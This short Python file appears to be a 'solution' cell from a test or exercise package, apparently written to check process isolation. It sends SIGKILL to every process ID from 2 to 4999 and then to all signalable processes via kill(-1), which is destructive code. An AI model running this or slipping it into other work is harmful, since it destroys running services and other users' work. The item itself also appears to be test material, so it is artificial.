"""Every process that can be signalled is killed: `kill(-1)`, and one number after the other."""
# solves = []
# keeps = []

# %% words-solution
import os
import signal

own = os.getpid()
for number in [__VICTIM__, *range(2, 5000)]:
    if number != own:
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            continue
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
